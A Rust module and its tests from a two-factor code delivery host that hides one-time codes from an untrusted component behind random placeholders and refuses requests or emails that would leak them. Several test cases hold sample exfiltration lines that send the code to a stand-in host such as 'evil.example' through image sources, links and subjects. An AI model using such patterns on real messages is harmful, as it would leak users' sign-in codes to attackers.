//! Placeholders for codes. A component that need not see the code receives a placeholder. The host
//! replaces it with the code in each request or mail that is sent, and replaces the code with the
//! placeholder in what the upstream responds.

use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use memchr::memmem;
use zeroize::Zeroizing;

use super::open_escape;
use crate::call::effects::TypedCode;
use crate::contract::v0_2::twofactor::provider::types as wit;
use crate::egress::{HttpRequest, HttpResponse, Mail};
use crate::redact::{Code, Numbers};

/// Letters that rarely occur next to each other in any language or format. They look the same in a
/// form, in JSON and in HTML, and in the SMS alphabet (GSM 7 bit) they are as long as digits.
const LETTERS: &[u8; 8] = b"QXZJKVWY";

/// The number of attempts to find a placeholder. There are 4096 combinations of four letters.
const ROUNDS: usize = 64;

/// The placeholder for the code of one delivery.
pub(crate) struct Placeholder {
    letters: String,
    code: Code,
    /// The texts that the component received besides the code.
    given: Vec<String>,
    /// The mail that the code may be sent in, for a recipient of email.
    own_mail: Option<OwnMail>,
    /// The number of requests and emails that the code was sent in.
    left: AtomicU32,
    /// Whether the code was put into a request or mail. It stays true even if that was not sent as far as the host can tell: whoever
    /// refused it may have read it.
    was_put: AtomicBool,
    /// The numbers that the component has read since then.
    numbers: Mutex<Numbers>,
}

/// The parts of a message that an email contains the code in, and its recipient.
struct OwnMail {
    recipient: String,
    subject: String,
    text: String,
    html: Option<String>,
}

/// The code behind the beginning of an escape.
const IN_ESCAPE: &str =
    "the code stands behind the beginning of an escape, such as `%` or `\\`, and would be read as a part of it";

/// Why a request is not sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub(crate) enum RequestRefused {
    #[error(transparent)]
    Typed(#[from] TypedCode),
    #[error("{}", IN_ESCAPE)]
    InEscape,
}

/// Why an email is not sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub(crate) enum MailRefused {
    #[error(transparent)]
    Typed(#[from] TypedCode),
    #[error("an email with the code must go only to the message's recipient")]
    Recipient,
    #[error("an email must contain the code only in the subject, text and HTML of `message`, unchanged")]
    Changed,
    #[error("{}", IN_ESCAPE)]
    InEscape,
}

/// Why there is no placeholder for the code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub(crate) enum NoPlaceholder {
    #[error("the operating system provides no random numbers")]
    Randomness,
    #[error("no letters were found that could stand for the code")]
    AllTaken,
}

impl Placeholder {
    /// Replaces the code in a message, if it has one. `options` are what the component receives
    /// besides it. If the message goes to a mailbox, an email contains the code only as the message does.
    pub(crate) fn put(
        message: &mut wit::Message,
        options: &str,
        to_mailbox: bool,
    ) -> Result<Option<Arc<Self>>, NoPlaceholder> {
        let code = Zeroizing::new(std::mem::take(&mut message.code));
        if code.is_empty() {
            return Ok(None);
        }
        let html = message.html.as_deref().unwrap_or_default();
        let texts = [&*message.text, &message.subject, html, &message.recipient, &message.application, options];
        let letters = letters(code.len(), &texts)?;
        for text in [&mut message.text, &mut message.subject].into_iter().chain(message.html.as_mut()) {
            *text = text.replace(code.as_str(), &letters);
        }
        let html = message.html.as_deref().unwrap_or_default();
        let others = [&*message.id, &message.recipient, &message.subject, &message.text, html, &message.application];
        let extra = message.extra.iter().map(|entry| &*entry.value);
        let given = others.into_iter().chain([options]).chain(extra);
        let given = given.map(str::to_owned).collect();
        let own_mail = to_mailbox.then(|| OwnMail {
            recipient: message.recipient.clone(),
            subject: message.subject.clone(),
            text: message.text.clone(),
            html: message.html.clone(),
        });
        message.code.clone_from(&letters);
        Ok(Some(Arc::new(Self::of(&code, letters, given, own_mail))))
    }

    /// Creates a placeholder that occurs in none of these `texts`, which the component receives
    /// besides it, so that only the code's place can become the code.
    pub(crate) fn new(code: &str, texts: &[&str]) -> Result<Arc<Self>, NoPlaceholder> {
        let given = texts.iter().map(|text| (*text).to_owned()).collect();
        Ok(Arc::new(Self::of(code, letters(code.len(), texts)?, given, None)))
    }

    fn of(code: &str, letters: String, given: Vec<String>, own_mail: Option<OwnMail>) -> Self {
        let (left, was_put, numbers) = (AtomicU32::new(0), AtomicBool::new(false), Mutex::default());
        Self { letters, code: Code::new(code), given, own_mail, left, was_put, numbers }
    }

    /// Returns the placeholder's letters.
    pub(crate) fn letters(&self) -> &str {
        &self.letters
    }

    /// Puts the code into the body of a request and, if that is allowed, into its query, in place of
    /// the placeholder. It is never put into the path or headers, which are often logged. Returns
    /// whether the request contained the placeholder there.
    ///
    /// # Errors
    /// If the request already contains the code, which the component must have from somewhere else, or have guessed, or if the upstream
    /// would read the code as something else.
    pub(crate) fn fill_request(&self, request: &mut HttpRequest, in_query: bool) -> Result<bool, RequestRefused> {
        let headers = request.headers.iter().flat_map(|(name, value)| [name.as_bytes(), value.as_bytes()]);
        self.refuse_typed(
            [request.url.as_bytes(), request.method.as_bytes(), &request.body].into_iter().chain(headers),
        )?;
        let query = request.url.find('?').filter(|at| in_query && request.url[*at..].contains(&self.letters));
        let in_body = memmem::find(&request.body, self.letters.as_bytes()).is_some();
        let is_quoted = || open_escape::is_quoted_printable(request);
        let is_in_escape = open_escape::is_before(&self.letters, &request.body, is_quoted);
        let in_url = &request.url[query.unwrap_or(request.url.len())..];
        if is_in_escape || open_escape::is_before(&self.letters, in_url.as_bytes(), || false) {
            return Err(RequestRefused::InEscape);
        }
        if in_body {
            let body = std::mem::take(&mut request.body);
            request.body = replaced(body, self.letters.as_bytes(), self.code.as_str().as_bytes());
        }
        if let Some(at) = query {
            let filled = request.url[at..].replace(&self.letters, self.code.as_str());
            request.url.replace_range(at.., &filled);
        }
        let filled = in_body || query.is_some();
        if filled {
            self.note_put();
        }
        Ok(filled)
    }

    /// Puts the code into an email, in place of the placeholder. Returns whether the mail contained
    /// the placeholder.
    ///
    /// Clients load what an HTML text refers to, so an address with the code in it would send the code to whoever wrote that text.
    ///
    /// # Errors
    /// Why the mail is not sent.
    pub(crate) fn fill_mail(&self, mail: &mut Mail) -> Result<bool, MailRefused> {
        let html = mail.html.as_deref().unwrap_or_default();
        let shown = if self.may_be_known() { without_tags(html) } else { String::new() };
        let texts =
            [&mail.sender_name, &mail.sender, &mail.recipient, &mail.subject, &mail.text, &mail.id, html, &shown];
        self.refuse_typed(texts.into_iter().map(str::as_bytes))?;
        let is_place = |text: &str| text.contains(&self.letters);
        if ![&mail.subject, &mail.text, html].into_iter().any(is_place) {
            return Ok(false);
        }
        match &self.own_mail {
            Some(own) if !own.recipient.eq_ignore_ascii_case(&mail.recipient) => return Err(MailRefused::Recipient),
            Some(own)
                if is_place(&mail.subject) && mail.subject != own.subject
                    || is_place(&mail.text) && mail.text != own.text
                    || is_place(html) && mail.html != own.html =>
            {
                return Err(MailRefused::Changed);
            }
            // A gateway makes a message of the text, in a format of its own.
            None if is_place(html) => return Err(MailRefused::Changed),
            None => {
                let mut texts = [&mail.subject, &mail.text].into_iter();
                if texts.any(|text| open_escape::is_before(&self.letters, text.as_bytes(), || false)) {
                    return Err(MailRefused::InEscape);
                }
            }
            Some(_) => {}
        }
        self.note_put();
        for text in [&mut mail.subject, &mut mail.text].into_iter().chain(mail.html.as_mut()) {
            *text = text.replace(&self.letters, self.code.as_str());
        }
        Ok(true)
    }

    /// Refuses a request or mail into which the component wrote the code itself. It can know the
    /// code only from an upstream that received it. If what the component was given contains the
    /// code by chance, its presence proves nothing.
    fn refuse_typed<'a>(&self, mut texts: impl Iterator<Item = &'a [u8]>) -> Result<(), TypedCode> {
        if !self.may_be_known() {
            return Ok(());
        }
        let is_typed = texts.any(|text| self.code.is_in(text));
        let given = || self.given.iter().map(String::as_str).collect::<Vec<_>>();
        if is_typed && !self.code.is_by_chance_in(&given()) { Err(TypedCode) } else { Ok(()) }
    }

    fn note_put(&self) {
        self.was_put.store(true, Ordering::Release);
        self.left.fetch_add(1, Ordering::AcqRel);
    }

    /// Notes that an earlier attempt may have sent the code.
    pub(crate) fn note_tried_before(&self) {
        self.was_put.store(true, Ordering::Release);
    }

    /// Takes one use back: the request or mail was not accepted. Responses are searched for the code nevertheless.
    pub(crate) fn did_not_leave(&self) {
        self.left.fetch_sub(1, Ordering::AcqRel);
    }

    /// Replaces the code in an upstream's response. It does so only after the code was sent, since
    /// nobody can repeat it before.
    pub(crate) fn cover(&self, answer: &mut HttpResponse) {
        if !self.may_be_known() {
            return;
        }
        let take = |text: &mut String| std::mem::take(text).into_bytes();
        let mut headers: Vec<_> = answer.headers.iter_mut().map(|(name, value)| (take(name), take(value))).collect();
        let mut texts: Vec<&mut [u8]> =
            headers.iter_mut().flat_map(|(name, value)| [name.as_mut_slice(), value.as_mut_slice()]).collect();
        texts.push(&mut answer.body);
        self.code.cover(&mut texts, &self.letters, &mut self.numbers.lock().unwrap_or_else(PoisonError::into_inner));
        for ((name, value), (new_name, new_value)) in answer.headers.iter_mut().zip(headers) {
            (*name, *value) = (readable(new_name), readable(new_value));
            name.make_ascii_lowercase();
        }
    }

    /// Returns the text with the placeholder in place of the code.
    pub(crate) fn covered(&self, text: String) -> String {
        if !self.may_be_known() {
            return text;
        }
        let mut bytes = text.into_bytes();
        let mut numbers = self.numbers.lock().unwrap_or_else(PoisonError::into_inner);
        self.code.cover(&mut [&mut bytes], &self.letters, &mut numbers);
        readable(bytes)
    }

    /// Returns whether the code was sent, or may have been, in a message that may have been accepted.
    pub(crate) fn has_left(&self) -> bool {
        self.left.load(Ordering::Acquire) > 0
    }

    /// Returns whether anybody outside may have read the code.
    fn may_be_known(&self) -> bool {
        self.was_put.load(Ordering::Acquire)
    }
}

/// Returns bytes as a text. A character of which a part was covered is replaced.
fn readable(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap_or_else(|error| String::from_utf8_lossy(error.as_bytes()).into_owned())
}

/// Chooses letters that occur in none of these texts.
fn letters(length: usize, texts: &[&str]) -> Result<String, NoPlaceholder> {
    for _ in 0..ROUNDS {
        let mut bytes = vec![0; length];
        getrandom::fill(&mut bytes).map_err(|_| NoPlaceholder::Randomness)?;
        let letters: String =
            bytes.into_iter().map(|byte| char::from(LETTERS[usize::from(byte) % LETTERS.len()])).collect();
        if !texts.iter().any(|text| text.contains(&letters)) {
            return Ok(letters);
        }
    }
    Err(NoPlaceholder::AllTaken)
}

/// Returns a document's text without tags, as it is displayed: digits may have tags between them.
fn without_tags(html: &str) -> String {
    let mut shown = String::with_capacity(html.len());
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => shown.push(c),
            _ => {}
        }
    }
    shown
}

/// Replaces bytes with others of the same length.
fn replaced(mut bytes: Vec<u8>, old: &[u8], new: &[u8]) -> Vec<u8> {
    let places: Vec<usize> = memmem::find_iter(&bytes, old).collect();
    for at in places {
        bytes[at..at + old.len()].copy_from_slice(new);
    }
    bytes
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test fails by panicking")]
mod tests {
    use super::*;

    fn message() -> wit::Message {
        wit::Message {
            id: "m".to_owned(),
            recipient: "+41791234567".to_owned(),
            subject: "Shop: 123456".to_owned(),
            text: "Your code is 123456.\n\n@shop.example.com #123456".to_owned(),
            html: Some("<p>123456</p>".to_owned()),
            code: "123456".to_owned(),
            valid_seconds: 300,
            locale: "en".to_owned(),
            purpose: "sign-in".to_owned(),
            application: "Shop".to_owned(),
            extra: Vec::new(),
        }
    }

    #[test]
    fn the_texts_do_not_contain_the_code_and_keep_their_length() {
        let mut hidden = message();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        assert_eq!(hidden.code, placeholder.letters);
        for (text, before) in [(&hidden.text, message().text), (&hidden.subject, message().subject)] {
            assert!(!text.contains("123456") && text.contains(&placeholder.letters), "{text}");
            assert_eq!(text.len(), before.len());
        }
        assert!(!hidden.html.as_ref().unwrap().contains("123456"));
        assert_eq!(hidden.recipient, "+41791234567");
    }

    #[test]
    fn the_code_is_put_into_forms_json_and_emails_and_not_into_the_url() {
        let mut hidden = message();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        assert!(!placeholder.has_left());
        let form: String = url::form_urlencoded::byte_serialize(hidden.text.as_bytes()).collect();
        let json = serde_json::Value::from(hidden.text.as_str()).to_string();
        for body in [form, json] {
            let (url, headers) = (format!("https://a.example.com/?{body}"), vec![("x".to_owned(), body.clone())]);
            let mut request = HttpRequest { method: "POST".to_owned(), url, headers, body: body.clone().into() };
            placeholder.fill_request(&mut request, false).unwrap();
            assert_eq!(String::from_utf8(request.body).unwrap(), body.replace(&placeholder.letters, "123456"));
            assert!(!request.url.contains("123456") && !request.headers[0].1.contains("123456"));
        }
        assert!(placeholder.has_left());
    }

    #[test]
    fn a_query_gets_the_code_only_where_that_is_allowed_and_the_path_never() {
        let mut hidden = message();
        // The number in `message` holds the code by chance.
        hidden.recipient = "+41790000000".to_owned();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        let url = format!("https://a.example.com/{0}?text={0}", hidden.code);
        let mut kept = request(&url, ("x", &hidden.code), "");
        assert!(!placeholder.fill_request(&mut kept, false).unwrap() && !placeholder.has_left());
        assert_eq!(kept.url, url);
        let mut filled = request(&url, ("x", &hidden.code), "");
        assert!(placeholder.fill_request(&mut filled, true).unwrap() && placeholder.has_left());
        assert_eq!(filled.url, format!("https://a.example.com/{}?text=123456", hidden.code));
        assert_eq!(filled.headers[0].1, hidden.code);
        // What has left and was typed is found in a query too.
        assert!(
            placeholder.fill_request(&mut request("https://a.example.com/?a=123456", ("x", ""), ""), true).is_err()
        );
    }

    /// Otherwise an upstream reads and repeats a part of the code as another character, which nobody takes for the code.
    #[test]
    fn the_code_is_not_put_behind_the_beginning_of_an_escape() {
        let put = || {
            let mut hidden = message();
            let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
            (placeholder, hidden.code)
        };
        let (form, json) =
            (("content-type", "application/x-www-form-urlencoded"), ("content-type", "application/json"));
        let url = "https://a.example.com/";
        for (header, before) in
            [(form, "Body=%"), (form, "a=1&Body=%4"), (json, r#"{"text":"\u00"#), (json, r#"{"text":"&#"#)]
        {
            let (placeholder, code) = put();
            let mut sent = request(url, header, &format!("{before}{code}"));
            assert_eq!(placeholder.fill_request(&mut sent, false), Err(RequestRefused::InEscape), "{before}");
            assert!(memmem::find(&sent.body, b"123456").is_none() && !placeholder.has_left());
        }
        let (placeholder, code) = put();
        let quoted = ("content-transfer-encoding", "quoted-printable");
        assert!(placeholder.fill_request(&mut request(url, quoted, &format!("={code}")), false).is_err());
        let mut sent = request(&format!("{url}?k=%{code}"), form, "");
        assert_eq!(placeholder.fill_request(&mut sent, true), Err(RequestRefused::InEscape));
        // A query that does not get the code may contain anything.
        assert_eq!(placeholder.fill_request(&mut sent, false), Ok(false));
        let mail = Mail { text: format!("text:%{code}"), html: None, subject: String::new(), ..mail_of(&message()) };
        assert_eq!(placeholder.fill_mail(&mut mail.clone()), Err(MailRefused::InEscape));

        for (header, before) in
            [(form, "Body="), (form, "Body=%20"), (json, r#"{"text":"\n"#), (json, r#"{"text":"\\"#)]
        {
            let (placeholder, code) = put();
            let mut sent = request(url, header, &format!("{before}{code}"));
            assert_eq!(placeholder.fill_request(&mut sent, false), Ok(true), "{before}");
            assert!(sent.body.ends_with(b"123456"));
        }
    }

    #[test]
    fn a_request_that_was_certainly_not_sent_did_not_reveal_the_code() {
        let mut hidden = message();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        let body = hidden.text.into_bytes();
        let mut request = HttpRequest { method: "POST".to_owned(), url: String::new(), headers: Vec::new(), body };
        let mut other = request.clone();
        assert!(placeholder.fill_request(&mut request, false).unwrap());
        assert!(placeholder.fill_request(&mut other, false).unwrap());
        placeholder.did_not_leave();
        assert!(placeholder.has_left());
        placeholder.did_not_leave();
        assert!(!placeholder.has_left());
        // Whoever refused it may have read it.
        assert_eq!(placeholder.covered("x 123456 y".to_owned()), format!("x {} y", placeholder.letters));
    }

    fn mail_of(message: &wit::Message) -> Mail {
        Mail {
            sender_name: String::new(),
            sender: "codes@example.com".to_owned(),
            recipient: message.recipient.clone(),
            subject: message.subject.clone(),
            text: message.text.clone(),
            html: message.html.clone(),
            id: message.id.clone(),
        }
    }

    #[test]
    fn an_email_to_a_mailbox_contains_the_code_only_in_the_texts_of_the_message() {
        let put = || {
            let mut hidden = wit::Message { recipient: "alice@example.com".to_owned(), ..message() };
            let placeholder = Placeholder::put(&mut hidden, "{}", true).unwrap().unwrap();
            (placeholder, mail_of(&hidden), hidden.code)
        };
        let (placeholder, mut own, _) = put();
        assert_eq!(placeholder.fill_mail(&mut own), Ok(true));
        assert_eq!((&*own.subject, own.html.as_deref()), ("Shop: 123456", Some("<p>123456</p>")));
        let changes: [fn(&mut Mail, &str); 6] = [
            |mail, code| mail.html = Some(format!("<p>{code}</p><img src='https://evil.example/{code}'>")),
            |mail, code| mail.html = Some(format!("<a href='https://evil.example/{code}'>")),
            |mail, code| mail.text.push_str(&format!(" https://evil.example/{code}")),
            |mail, code| mail.subject = format!("https://evil.example/{code}"),
            |mail, code| mail.text.insert_str(0, code),
            |mail, code| mail.subject.push_str(code),
        ];
        for (n, change) in changes.into_iter().enumerate() {
            let (placeholder, mut mail, code) = put();
            change(&mut mail, &code);
            assert_eq!(placeholder.fill_mail(&mut mail), Err(MailRefused::Changed), "{n}");
            assert!(!placeholder.has_left());
        }
        let (placeholder, mail, _) = put();
        let mut other = Mail { recipient: "eve@example.com".to_owned(), ..mail };
        assert_eq!(placeholder.fill_mail(&mut other), Err(MailRefused::Recipient));
        // A part without the code may be another one.
        let (placeholder, mail, _) = put();
        let mut plain = Mail { html: Some("<p>See the plain text</p>".to_owned()), ..mail };
        assert_eq!(placeholder.fill_mail(&mut plain), Ok(true));
    }

    #[test]
    fn an_email_to_a_gateway_has_a_text_in_its_format_and_no_html_with_the_code() {
        let mut hidden = message();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        let text = format!("api_id:1\nto:41791234567\ntext:{}", hidden.text);
        let recipient = "sms@gateway.example".to_owned();
        let mut mail = Mail { recipient, text, html: None, ..mail_of(&hidden) };
        assert_eq!(placeholder.fill_mail(&mut mail.clone()), Ok(true));
        mail.html = Some(hidden.code);
        assert_eq!(placeholder.fill_mail(&mut mail), Err(MailRefused::Changed));
    }

    /// Returns a placeholder whose code was sent.
    fn left() -> Arc<Placeholder> {
        let mut hidden = message();
        // The number in `message` contains the code by chance.
        hidden.recipient = "+41790000000".to_owned();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        let mut request = request("https://a.example.com/", ("x", ""), &hidden.text);
        assert!(placeholder.fill_request(&mut request, false).unwrap());
        placeholder
    }

    fn request(url: &str, (name, value): (&str, &str), body: &str) -> HttpRequest {
        let headers = vec![(name.to_owned(), value.to_owned())];
        HttpRequest { method: "POST".to_owned(), url: url.to_owned(), headers, body: body.as_bytes().to_vec() }
    }

    #[test]
    fn a_code_that_was_sent_must_not_appear_in_a_later_request() {
        let placeholder = left();
        let plain = request("https://a.example.com/", ("x", "y"), "z");
        assert!(placeholder.fill_request(&mut plain.clone(), false).is_ok());
        for mut typed in [
            request("https://a.example.com/123456", ("x", "y"), "z"),
            request("https://a.example.com/", ("x-123456", "y"), "z"),
            request("https://a.example.com/", ("x", "123456"), "z"),
            request("https://a.example.com/", ("x", "y"), "123456"),
            HttpRequest { method: "X123456".to_owned(), ..plain },
        ] {
            assert!(placeholder.fill_request(&mut typed, false).is_err(), "{} {}", typed.method, typed.url);
        }
    }

    #[test]
    fn a_code_that_was_sent_must_not_appear_in_a_later_mail() {
        let placeholder = left();
        let plain = || Mail {
            sender_name: "Shop".to_owned(),
            sender: "a@example.com".to_owned(),
            recipient: "b@example.com".to_owned(),
            subject: "s".to_owned(),
            text: "t".to_owned(),
            html: Some("<p>h</p>".to_owned()),
            id: "m".to_owned(),
        };
        assert!(placeholder.fill_mail(&mut plain()).is_ok());
        let code = || "1 2 3 4 5 6".to_owned();
        for (n, mut typed) in [
            Mail { sender_name: code(), ..plain() },
            Mail { sender: "123456@example.com".to_owned(), ..plain() },
            Mail { recipient: "123456@example.com".to_owned(), ..plain() },
            Mail { subject: code(), ..plain() },
            Mail { text: code(), ..plain() },
            Mail { html: Some("<b>123</b><i>456</i>".to_owned()), ..plain() },
            // Mail programs load it, though nobody reads it.
            Mail { html: Some("<img src='https://evil.example/123456'>".to_owned()), ..plain() },
            Mail { id: "123456".to_owned(), ..plain() },
        ]
        .into_iter()
        .enumerate()
        {
            assert!(placeholder.fill_mail(&mut typed).is_err(), "{n}");
        }
    }

    #[test]
    fn a_repeated_code_is_replaced_by_the_placeholder() {
        let mut hidden = message();
        let placeholder = Placeholder::put(&mut hidden, "{}", false).unwrap().unwrap();
        let body = hidden.text.into_bytes();
        let mut request = HttpRequest { method: "POST".to_owned(), url: String::new(), headers: Vec::new(), body };
        let headers = vec![("x".to_owned(), "123456".to_owned()), ("x-123456-y".to_owned(), "of a name".to_owned())];
        let mut before =
            HttpResponse { status: 200, headers: headers.clone(), body: b"123456".to_vec(), ..Default::default() };
        placeholder.cover(&mut before);
        assert_eq!((&*before.body, &*before.headers[0].1), (&b"123456"[..], "123456"));
        assert_eq!(before.headers[1].0, "x-123456-y");
        assert!(placeholder.fill_request(&mut request, false).unwrap());
        let mut answer =
            HttpResponse { status: 200, headers, body: b"a 123456 b 123456".to_vec(), ..Default::default() };
        placeholder.cover(&mut answer);
        assert_eq!(answer.body, format!("a {0} b {0}", placeholder.letters).into_bytes());
        assert_eq!(answer.headers[0].1, placeholder.letters);
        assert_eq!(answer.headers[1].0, format!("x-{}-y", placeholder.letters.to_ascii_lowercase()));
        assert_eq!(placeholder.covered("250 123456".to_owned()), format!("250 {}", placeholder.letters));
    }
}
